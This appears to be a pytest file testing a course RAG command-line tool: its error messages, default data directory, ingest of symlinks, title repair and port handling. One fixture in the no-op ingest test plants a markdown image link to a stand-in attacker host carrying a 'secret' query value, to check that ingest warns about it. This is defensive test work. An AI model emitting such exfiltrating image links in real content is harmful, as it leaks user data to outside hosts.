"""What a newcomer meets in the first hour: bad input gets one clear line, the data
directory does not depend on the current folder, a no-op ingest is cheap.

Every test goes through the real CLI (a subprocess where the one-line error output of
`rag.cli.main` matters, typer's CliRunner where the shared corpus index is needed).
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from rag.answer.questions import MAX_QUESTION_CHARS
from rag.assistant import Assistant
from rag.cli import app
from rag.retrieval.embeddings import choose_backend

runner = CliRunner(env={"RAG_QUERY_LOG": "false"})


def run_cli(*args: str, cwd: Path, **env: str) -> subprocess.CompletedProcess[str]:
    full_env = {**os.environ, "HF_HUB_OFFLINE": "1", **env}
    return subprocess.run(
        [sys.executable, "-m", "rag.cli", *args],
        capture_output=True, text=True, timeout=240, cwd=cwd, env=full_env,
    )  # fmt: skip


def one_error_line(result: subprocess.CompletedProcess[str]) -> str:
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    errors = [line for line in lines if line.startswith("Error:")]
    assert len(errors) == 1, result.stderr
    assert "Traceback" not in result.stderr + result.stdout
    assert "╭" not in result.stderr  # no rich box
    return errors[0]


@pytest.mark.parametrize(
    ("args", "env", "expected"),
    [
        (["ask", ""], {}, "the question is empty"),
        (["ask", "   "], {}, "the question is empty"),
        (["retrieve", "x" * (MAX_QUESTION_CHARS + 1)], {}, f"the limit is {MAX_QUESTION_CHARS:,}"),
        (["ask", "What is a GAN?", "--k", "-3"], {}, "--k"),
        (["status"], {"RAG_K": "abc"}, "RAG_K='abc'"),
        (["status"], {"RAG_CHUNK_SIZE": "64", "RAG_CHUNK_OVERLAP": "64"}, "RAG_CHUNK_OVERLAP"),
        (["quiz", "GANs", "--out", "quiz.docx"], {}, ".md, .markdown, .json, .csv"),
    ],
)
def test_bad_input_gets_one_error_line_and_nonzero_exit(
    tmp_path: Path, args: list[str], env: dict[str, str], expected: str
) -> None:
    result = run_cli(*args, "--data-dir", str(tmp_path / "data"), cwd=tmp_path, **env)
    assert result.returncode != 0
    assert expected in one_error_line(result)
    assert not (tmp_path / "data").exists()  # nothing was created on the way


def test_unknown_variable_is_named_with_the_closest_setting(tmp_path: Path) -> None:
    result = run_cli("status", "--data-dir", str(tmp_path / "d"), cwd=tmp_path, RAG_TOP_K="3")
    assert result.returncode == 0, result.stderr
    assert (
        "Warning: RAG_TOP_K is not a setting and is ignored; did you mean RAG_K?" in result.stderr
    )


def test_read_only_commands_do_not_create_an_index(tmp_path: Path) -> None:
    data = tmp_path / "never"
    status = run_cli("status", "--json", "--data-dir", str(data), cwd=tmp_path)
    assert status.returncode == 0 and json.loads(status.stdout)["chunks"] == 0
    # The runtime is named without loading the model: openvino on a CPU, torch on a GPU.
    assert json.loads(status.stdout)["embedding_backend"] == choose_backend(None, None)
    ask = run_cli("ask", "What is a GAN?", "--data-dir", str(data), cwd=tmp_path)
    assert "nothing is indexed" in one_error_line(ask)
    assert not data.exists()


def test_default_data_dir_is_per_user_not_the_current_folder(tmp_path: Path) -> None:
    home = tmp_path / "xdg"
    env = {k: v for k, v in os.environ.items() if not k.startswith("RAG_")}
    env |= {"XDG_DATA_HOME": str(home), "HF_HUB_OFFLINE": "1"}
    code = "from rag.settings import Settings; print(Settings().data_dir)"
    for cwd in (tmp_path, tmp_path.parent):
        shown = subprocess.run(
            [sys.executable, "-c", code], capture_output=True, text=True, cwd=cwd, env=env,
            timeout=60, check=True,
        ).stdout.strip()  # fmt: skip
        assert shown == str(home / "course-rag")
    corpus = subprocess.run(
        [sys.executable, "-c", "from rag.settings import Settings; print(Settings().corpus_dir)"],
        capture_output=True, text=True, cwd=tmp_path, env=env, timeout=60, check=True,
    ).stdout.strip()  # fmt: skip
    from tests.conftest import CORPUS

    assert Path(corpus) == CORPUS, "rag ingest from another folder reads the bundled course"
    overridden = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, cwd=tmp_path,
        env={**env, "RAG_DATA_DIR": str(tmp_path / "mine")}, timeout=60, check=True,
    ).stdout.strip()  # fmt: skip
    assert overridden == str(tmp_path / "mine")


def test_broken_and_looping_symlinks_are_reported_per_file(tmp_path: Path, embedder) -> None:
    course = tmp_path / "course"
    course.mkdir()
    (course / "a.md").write_text("# GANs\n\nTwo networks compete.\n", encoding="utf-8")
    (course / "broken.md").symlink_to(course / "gone.md")
    (course / "loop1.md").symlink_to(course / "loop2.md")
    (course / "loop2.md").symlink_to(course / "loop1.md")
    result = runner.invoke(
        app, ["ingest", str(course), "--json", "--data-dir", str(tmp_path / "d")]
    )
    assert result.exit_code == 1
    report = json.loads(result.stdout)
    assert report["added"] == 1
    reasons = {Path(e["path"]).name: e["error"] for e in report["errors"]}
    assert "broken symbolic link" in reasons["broken.md"]
    assert (
        "symbolic link loop" in reasons["loop1.md"] and "symbolic link loop" in reasons["loop2.md"]
    )


def test_quiz_on_an_uncovered_topic_exits_1(corpus_assistant: Assistant) -> None:
    data_args = ["--data-dir", str(corpus_assistant.settings.data_dir)]
    result = runner.invoke(
        app, ["quiz", "medieval bread baking recipes", "--n", "3", "--json", *data_args]
    )
    assert result.exit_code == 1, result.output
    assert json.loads(result.stdout)["items"] == []


def test_batch_question_errors_name_the_line(tmp_path: Path) -> None:
    questions = tmp_path / "q.txt"
    questions.write_text(
        "What is a GAN?\n" + "y" * (MAX_QUESTION_CHARS + 5) + "\n", encoding="utf-8"
    )
    result = run_cli(
        "ask", "--questions", str(questions), "--data-dir", str(tmp_path / "d"), cwd=tmp_path
    )
    assert result.returncode == 1
    assert "question 2:" in one_error_line(result)


NOOP_PROBE = """
import sys
from rag import cli
from rag.retrieval import embeddings
try:
    cli.main()
except SystemExit as done:
    code = done.code
fresh = {name for e in embeddings._shared.values() for name in vars(type(e)(e.name))}
used = {name for e in embeddings._shared.values() for name in vars(e)} - fresh
print("LAZY-LOADED:", sorted(used), file=sys.stderr)
sys.exit(code)
"""


def run_probe(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    """`rag ARGS`, then which lazily loaded parts of the embedder were touched."""
    return subprocess.run(
        [sys.executable, "-c", NOOP_PROBE, *args],
        capture_output=True, text=True, timeout=240, cwd=cwd,
        env={**os.environ, "HF_HUB_OFFLINE": "1"},
    )  # fmt: skip


def test_noop_ingest_does_not_load_the_model_and_warns_only_on_change(tmp_path: Path) -> None:
    course = tmp_path / "course"
    course.mkdir()
    (course / "gan.md").write_text(
        "# GANs\n\nTwo networks compete. ![x](https://attacker.example/p.png?q=secret)\n",
        encoding="utf-8",
    )
    args = ("ingest", str(course), "--data-dir", str(tmp_path / "d"))
    first = run_probe(*args, cwd=tmp_path)
    assert first.returncode == 0, first.stderr
    assert "Warning:" in first.stderr and "LAZY-LOADED: []" not in first.stderr
    second = run_probe(*args, cwd=tmp_path)
    assert second.returncode == 0, second.stderr
    assert "1 unchanged" in second.stdout
    assert "LAZY-LOADED: []" in second.stderr, "a no-op ingest loaded the embedding model"
    assert "Warning:" not in second.stderr, "content warnings repeat on every run"


def test_titles_are_distinct_and_mojibake_is_repaired(tmp_path: Path, embedder) -> None:
    course = tmp_path / "course"
    course.mkdir()
    (course / "a.md").write_text(
        "# Generative AI\n\n## Basics\n\nModels make data.\n", encoding="utf-8"
    )
    (course / "b.md").write_text(
        "---\ntitle: Generative AI\n---\nIntro text.\n\n# Diffusion\n\n## \uf8ffüéì Goals\n\nDenoise.\n",
        encoding="utf-8",
    )
    (course / "c.md").write_text(
        '---\ntitle: "Course Site - V. Creativity | AI"\n---\n# V. Creativity\n\nArt.\n',
        encoding="utf-8",
    )
    result = runner.invoke(app, ["ingest", str(course), "--data-dir", str(tmp_path / "d")])
    assert result.exit_code == 0, result.output
    status = runner.invoke(app, ["status", "--json", "--data-dir", str(tmp_path / "d")])
    documents = {d["source"]: d for d in json.loads(status.stdout)["documents_list"]}
    assert documents["a.md"]["title"] == "Generative AI"
    assert documents["b.md"]["title"] == "Diffusion"
    assert documents["c.md"]["title"] == "V. Creativity"  # not the site-wrapped title
    assert "🎓 Goals" in documents["b.md"]["sections"]
    retrieved = runner.invoke(
        app, ["retrieve", "denoise goals", "--json", "--data-dir", str(tmp_path / "d")]
    )
    passage = next(p for p in json.loads(retrieved.stdout)["passages"] if p["source"] == "b.md")
    from ingest.repair import repair_text

    stored = repair_text((course / "b.md").read_text(encoding="utf-8"))
    assert stored[passage["start"] : passage["end"]] == passage["text"]
    human = runner.invoke(app, ["retrieve", "denoise goals", "--data-dir", str(tmp_path / "d")])
    assert "Diffusion › Diffusion › 🎓 Goals" not in human.stdout
    assert "Diffusion › 🎓 Goals" in human.stdout


def test_busy_port_names_the_option_to_use(tmp_path: Path) -> None:
    import socket

    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        result = run_cli("ui", "--port", str(port), cwd=tmp_path)
    assert result.returncode == 1
    line = one_error_line(result)
    assert f"port {port}" in line and f"--port {port + 1}" in line and "PORT=" in line


@pytest.mark.skipif(os.name != "posix", reason="rag ui replaces itself with the server on POSIX")
def test_stopping_rag_ui_stops_the_app(tmp_path: Path) -> None:
    """A helper stopped `rag ui` with kill and the Streamlit child kept serving the port."""
    import socket
    import time
    import urllib.request

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    env = {k: v for k, v in os.environ.items() if not k.startswith("RAG_")}
    env.update(RAG_DATA_DIR=str(tmp_path / "data"), RAG_QUERY_LOG="false")
    server = subprocess.Popen(
        [sys.executable, "-m", "rag.cli", "ui", "--port", str(port)],
        cwd=tmp_path, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    url = f"http://127.0.0.1:{port}/_stcore/health"
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            try:
                with urllib.request.urlopen(url, timeout=2) as response:
                    if response.status == 200:
                        break
            except OSError:
                time.sleep(0.5)
        else:
            pytest.fail("the app did not start")
        server.terminate()
        server.wait(timeout=30)
        with pytest.raises(OSError):
            urllib.request.urlopen(url, timeout=2)
    finally:
        server.kill()


def test_make_run_takes_a_port() -> None:
    from tests.conftest import REPO

    dry = subprocess.run(
        ["make", "-n", "run", "PORT=8611"], capture_output=True, text=True, cwd=REPO, timeout=60
    )
    assert "rag ui --port 8611" in dry.stdout


def test_local_model_error_is_shown_once_and_whole(
    corpus_assistant: Assistant, tmp_path: Path
) -> None:
    missing = str(tmp_path / "no-such-model.gguf")
    result = run_cli(
        "ask", "Which metric measures the realism of generated images?", "--generator", "local",
        "--data-dir", str(corpus_assistant.settings.data_dir),
        cwd=tmp_path, RAG_LOCAL_MODEL=missing, RAG_QUERY_LOG="false",
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    mentions = [
        line for line in (result.stdout + result.stderr).splitlines() if "LocalModelError" in line
    ]
    assert len(mentions) == 1, result.stderr
    assert mentions[0].startswith("Note:") and mentions[0].rstrip().endswith("instead.")
